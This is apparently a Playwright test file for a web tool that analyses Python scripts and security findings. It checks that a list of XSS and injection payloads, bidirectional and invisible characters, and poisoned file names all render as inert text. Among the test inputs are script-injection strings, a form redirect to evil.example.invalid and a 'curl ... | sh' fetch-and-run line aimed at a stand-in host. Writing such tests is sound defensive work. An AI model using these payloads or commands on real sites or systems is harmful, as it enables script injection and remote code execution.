import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { foreign } from './foreign.mjs';
import { example, openCode, openTab, paste, start } from './support.mjs';

const { inPage, stop } = await start();
after(stop);

const payloads = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '"><svg onload=window.__pwned=3>',
  "'-alert(4)-'",
  'javascript:window.__pwned=5',
  '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
  '</textarea></style></title><script>window.__pwned=7</script>',
  '<a href="https://evil.example.invalid/" ping="https://evil.example.invalid/">click</a>',
  '${window.__pwned=8}{{constructor.constructor("window.__pwned=9")()}}',
  '<!--lit-part--><style>*{display:none!important}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=10>',
  '&lt;img src=x onerror=window.__pwned=11&gt;',
  '<base href="https://evil.example.invalid/"><form action="https://evil.example.invalid/"><button>x',
  '__proto__',
  '\u202eexe.yp\u202c\u0000\u200b\u2066\u001b[31m',
];

/** @param {import('playwright-core').Page} page @param {string} where */
async function checkAllTabs(page, where) {
  await page.locator('pv-verdict-card').waitFor();
  if ((await page.locator('#tab-summary').count()) > 0) await openTab(page, 'summary');
  for (const summary of await page.locator('pv-facts summary').all()) await summary.click();
  for (const tab of /** @type {const} */ ([
    'summary',
    'code',
    'layers',
    'indicators',
    'attack',
    'related',
    'response',
    'diagnostics',
    'json',
  ])) {
    if ((await page.locator(`#tab-${tab}`).count()) === 0) continue;
    await openTab(page, tab);
    if (tab === 'json') await page.locator('.cm-line').first().waitFor();
    assert.deepEqual(await foreign(page), { bad: [], pwned: undefined }, `${where}, ${tab}`);
  }
}

/** Every string of a value with a payload in it, and every object with a payload for a name. @param {any} value @param {string} payload @returns {any} */
function poison(value, payload) {
  if (typeof value === 'string') return `${payload}${value}${payload}`;
  if (Array.isArray(value)) return value.map((item) => poison(item, payload));
  if (typeof value !== 'object' || value === null) return value;
  const members = Object.entries(value).map(([name, item]) => [name, poison(item, payload)]);
  return Object.fromEntries([...members, [payload, payload]]);
}

test('payloads in a script stay text', () =>
  inPage({}, async (page) => {
    const lines = payloads.map(
      (payload, index) => `a${index} = ${JSON.stringify(payload)}  # ${payload.replaceAll('\n', ' ')}`,
    );
    await paste(
      page,
      `import os\n${lines.join('\n')}\nos.system(a0)\nos.system("curl http://x.example.invalid/${payloads[1]} | sh")\n`,
    );
    await checkAllTabs(page, 'script');
  }));

for (const [index, payload] of payloads.entries()) {
  test(`a finding whose every field holds payload ${index} stays text`, () =>
    inPage({}, async (page) => {
      const { finding, resource } = JSON.parse(example('reverse-shell.json'));
      const poisoned = poison(finding, payload);
      poisoned.category = `${payload}Execution: Malicious Python executed`;
      poisoned.processes[0].script.contents = `${payload}\n${finding.processes[0].script.contents}`;
      await paste(page, JSON.stringify({ finding: poisoned, resource: poison(resource, payload) }));
      await checkAllTabs(page, payload);
    }));
}

test('payloads in file names stay text, in the list too', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    await page.locator('#files').setInputFiles(
      payloads.map((payload) => ({
        name: `${payload.replaceAll('/', '∕').replaceAll('\0', '')}.py`,
        mimeType: 'text/x-python',
        buffer: Buffer.from('print(1)\n'),
      })),
    );
    await page
      .locator('[role=option]')
      .nth(payloads.length - 1)
      .waitFor();
    assert.deepEqual(await foreign(page), { bad: [], pwned: undefined });
    await page.locator('[role=option]').last().click();
    await checkAllTabs(page, 'file name');
  }));

test('invisible and bidirectional characters are named, in code and in facts', () =>
  inPage({}, async (page) => {
    await page.locator('#files').setInputFiles({
      name: 'a\u202eyp.exe',
      mimeType: 'text/x-python',
      buffer: Buffer.from('x = "\u202e\u200b\u2066\u{e0041}\ufe0f\u0007"\n'),
    });
    await page.locator('.cm-line').first().waitFor();
    assert.deepEqual(await page.locator('.pv-control').allInnerTexts(), [
      'U+202E',
      'U+200B',
      'U+2066',
      'U+E0041',
      'U+FE0F',
      'U+0007',
    ]);
    await openTab(page, 'summary');
    assert.match(await page.locator('pv-facts .columns').innerText(), /aU\+202Eyp\.exe/);
    assert.doesNotMatch(await page.locator('pv-facts .columns').innerText(), /\u202e/);
  }));

test('a result that comes late does not disturb a newer one', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    await page.evaluate(() => {
      for (const text of ['import os\nos.remove(__file__)\n'.repeat(2000), 'print(1)\n']) {
        const data = new DataTransfer();
        data.setData('text/plain', text);
        document.body.dispatchEvent(
          new ClipboardEvent('paste', {
            clipboardData: data,
            bubbles: true,
            cancelable: true,
            composed: true,
          }),
        );
      }
    });
    await page.locator('pv-verdict-card').waitFor();
    await page.waitForTimeout(300);
    await openTab(page, 'summary');
    assert.match(await page.locator('pv-facts .columns').innerText(), /\b9 bytes/);
  }));
